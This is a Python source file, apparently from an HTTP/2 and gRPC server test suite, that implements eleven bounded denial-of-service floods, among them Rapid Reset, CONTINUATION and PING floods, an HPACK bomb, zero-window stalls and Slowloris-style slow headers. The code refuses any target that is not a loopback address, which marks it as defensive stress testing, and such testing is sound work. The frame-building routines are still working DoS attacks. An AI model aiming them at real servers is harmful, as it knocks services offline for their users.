"""The floods. Each runs in a process of its own, so that it does not slow down the bystander that is measured:

  python hostile/floods.py NAME HOST:PORT

Each is bounded in count and time, speaks to the given loopback address alone, and prints one line of JSON: what was
sent, how many seconds passed until the connection's end (or the flood's), and how it ended.
"""

from __future__ import annotations

import contextlib
import ipaddress
import itertools
import json
import pathlib
import select
import struct
import sys
import time
from collections.abc import Iterator

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1]))

import h2raw
from h2raw import (CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, RST_STREAM,
                   SETTINGS, TEST_SERVICE, WINDOW_UPDATE, frame, grpc_message, request_fields, varint)

UNARY = TEST_SERVICE + "UnaryCall"
OUTPUT = TEST_SERVICE + "StreamingOutputCall"
DUPLEX = TEST_SERVICE + "FullDuplexCall"
EMPTY = TEST_SERVICE + "EmptyCall"


def connect(address: str, **options) -> h2raw.RawConnection:
  """A connection that from now on answers nothing by itself."""
  raw = h2raw.RawConnection(address, auto_window=False, timeout=5, **options)
  raw.auto_ack = False
  return raw


def drive(raw: h2raw.RawConnection, chunks: Iterator[bytes], seconds: float, linger: float = 2.0) -> dict:
  """Sends the chunks as fast as the server takes them, reading all the while, until the server ends the connection,
  the chunks end (then it waits `linger` seconds for a reaction) or `seconds` have passed."""
  raw.socket.setblocking(False)
  began = time.monotonic()
  end, pending, sent, more = began + seconds, memoryview(b""), 0, True
  while time.monotonic() < end and not raw.closed:
    if more and not pending:
      chunk = next(chunks, None)
      if chunk is None:
        more, end = False, min(end, time.monotonic() + linger)
      else:
        pending = memoryview(chunk)
    readable, writable, _ = select.select([raw.socket], [raw.socket] if pending else [], [], 0.05)
    try:
      if readable:
        piece = raw.socket.recv(1 << 16)
        raw.closed = not piece
        raw.buffer += piece
        while raw.buffered_frame() is not None:
          pass
      if writable:
        count = raw.socket.send(pending[:1 << 16])
        pending, sent = pending[count:], sent + count
    except BlockingIOError:
      pass
    except (ConnectionResetError, BrokenPipeError):
      raw.closed = True
  return {"bytes": sent, "seconds": time.monotonic() - began, "ended": ending(raw)}


def ending(raw: h2raw.RawConnection) -> str:
  if raw.goaways:
    return "GOAWAY " + h2raw.error_name(raw.goaways[-1][1]) + (", closed" if raw.closed else "")
  return "closed" if raw.closed else "open"


def rapid_reset(address: str) -> dict:
  raw = connect(address)
  block = b"".join(b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
                   for name, value in request_fields(DUPLEX))
  cancel = struct.pack(">I", CANCEL)

  def chunks():
    for first in range(1, 100_000, 200):
      yield b"".join(frame(HEADERS, END_HEADERS, number, block) + frame(RST_STREAM, 0, number, cancel)
                     for number in range(first, first + 200, 2))
  return drive(raw, chunks(), 10)


def continuation(address: str) -> dict:
  raw = connect(address)
  piece = (b"\x00\x05x-pad" + b"\x7f\x01" + bytes([97]) * 128) * 100
  def chunks():
    yield frame(HEADERS, 0, 1, raw.block(request_fields(EMPTY)))
    for _ in range(5000):
      yield frame(CONTINUATION, 0, 1, piece)
  return drive(raw, chunks(), 10)


def ping(address: str) -> dict:
  chunk = frame(PING, 0, 0, b"flooding") * 500
  return drive(connect(address), itertools.repeat(chunk, 2000), 10)


def settings(address: str) -> dict:
  chunk = frame(SETTINGS, 0, 0, h2raw.settings_payload([(INITIAL_WINDOW_SIZE, 65535)])) * 500
  return drive(connect(address), itertools.repeat(chunk, 2000), 10)


def empty_data(address: str) -> dict:
  raw = connect(address)
  raw.headers(1, request_fields(DUPLEX))
  return drive(raw, itertools.repeat(frame(DATA, 0, 1) * 500, 2000), 10)


def zero_window(address: str) -> dict:
  """50 streams, each asking for 200 replies of 64 KiB (640 MB together), and no window for any of them."""
  raw = connect(address, settings=[(INITIAL_WINDOW_SIZE, 0)])
  body = grpc_message((b"\x12" + varint(4) + b"\x08" + varint(65536)) * 200)
  def chunks():
    for number in range(1, 101, 2):
      yield frame(HEADERS, END_HEADERS, number, raw.block(request_fields(OUTPUT)))
      yield frame(DATA, END_STREAM, number, body)
  return drive(raw, chunks(), 10, linger=4)


def window_dribble(address: str) -> dict:
  """A large reply, taken byte by byte."""
  raw = connect(address, settings=[(INITIAL_WINDOW_SIZE, 0)])
  def chunks():
    yield frame(HEADERS, END_HEADERS, 1, raw.block(request_fields(UNARY)))
    yield frame(DATA, END_STREAM, 1, h2raw.reply_of(150_000))
    for _ in range(1000):
      yield frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 100
  return drive(raw, chunks(), 8)


def hpack_bomb(address: str) -> dict:
  """One entry of 4000 bytes in the table, and blocks that name it 16000 times: 64 MB of fields each."""
  raw = connect(address)
  entry = b"\x40\x01x" + b"\x7f" + varint(3900 - 127) + b"a" * 3900
  start = b"".join(b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
                   for name, value in request_fields(EMPTY))
  def chunks():
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, start + entry)
    for number in range(3, 100, 2):
      yield frame(HEADERS, END_HEADERS | END_STREAM, number, start + b"\xbe" * 16000)
  result = drive(raw, chunks(), 10)
  served = [number for number, stream in raw.streams.items() if number > 1 and stream.grpc_status == 0]
  refused = [stream for stream in raw.streams.values()
             if stream.reset or stream.status == 431 or stream.grpc_status == 8]
  result["served"] = len(served)
  if result["ended"] == "open" and refused:
    result["ended"] = f"{len(refused)} streams refused"
  return result


def slow_body(address: str) -> dict:
  """2000 streams on 40 connections; every half second each gets one byte more of its message."""
  with contextlib.ExitStack() as stack:
    raws = [stack.enter_context(connect(address)) for _ in range(40)]
    numbers = range(1, 101, 2)
    for raw in raws:
      raw.send_raw(b"".join(frame(HEADERS, END_HEADERS, number, raw.block(request_fields(UNARY)))
                            for number in numbers))
    drip = iter(grpc_message(bytes(100)))
    return _drip(raws, lambda raw, byte: b"".join(frame(DATA, 0, number, byte) for number in numbers), drip, 6)


def slow_headers(address: str) -> dict:
  """300 connections whose one HEADERS frame never ends; every half second each gets one byte more."""
  with contextlib.ExitStack() as stack:
    raws = [stack.enter_context(connect(address)) for _ in range(300)]
    for raw in raws:
      raw.send_raw(frame(HEADERS, END_HEADERS, 1, raw.block(request_fields(EMPTY)) + b"\x00\x7f\x81\x01", length=2000))
    return _drip(raws, lambda raw, byte: byte, itertools.repeat(97), 18)


def slow_http1(address: str) -> dict:
  """300 HTTP/1.1 connections whose header never ends; every half second each gets one byte more."""
  with contextlib.ExitStack() as stack:
    raws = [stack.enter_context(h2raw.RawConnection(address, handshake=False)) for _ in range(300)]
    for raw in raws:
      raw.send_raw(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")
    return _drip(raws, lambda raw, byte: byte, itertools.repeat(97), 18, frames=False)


def _drip(raws, make, drip, seconds: float, frames: bool = True) -> dict:
  """Every half second one byte more on each connection that is still open."""
  began = time.monotonic()
  sent, closed, turn = 0, set(), began
  poller = select.poll()
  by_descriptor = {raw.socket.fileno(): raw for raw in raws}
  for raw in raws:
    raw.socket.setblocking(False)
    poller.register(raw.socket, select.POLLIN)
  while len(closed) < len(raws) and time.monotonic() - began < seconds:
    if time.monotonic() >= turn:
      turn += 0.5
      byte = bytes([next(drip)])
      for raw in raws:
        if raw not in closed:
          with contextlib.suppress(BlockingIOError, ConnectionError):  # reading shows the end of the connection
            sent += raw.socket.send(make(raw, byte))
    for descriptor, _ in poller.poll(max(0, (turn - time.monotonic()) * 1000)):
      raw = by_descriptor[descriptor]
      try:
        piece = raw.socket.recv(1 << 16)
      except (ConnectionResetError, BrokenPipeError):
        piece = b""
      if not piece:
        closed.add(raw)
        poller.unregister(raw.socket)
      elif frames:
        raw.buffer += piece
        while raw.buffered_frame() is not None:
          pass
  codes = {h2raw.error_name(raw.goaways[-1][1]) for raw in raws if raw.goaways}
  names = "" if not codes else " GOAWAY " + "/".join(sorted(codes))
  ended = "open" if not closed else f"{len(closed)} of {len(raws)} closed{names}"
  return {"bytes": sent, "seconds": time.monotonic() - began, "ended": ended, "open": len(raws) - len(closed)}


ALL = {flood.__name__: flood for flood in (rapid_reset, continuation, ping, settings, empty_data, zero_window,
                                           window_dribble, hpack_bomb, slow_body, slow_headers, slow_http1)}

if __name__ == "__main__":
  name, target = sys.argv[1:]
  host = target.rsplit(":", 1)[0].strip("[]")
  if not ipaddress.ip_address(host).is_loopback:
    sys.exit(f"{host} is not a loopback address: floods are for a server on this machine alone")
  print(json.dumps(ALL[name](target)))
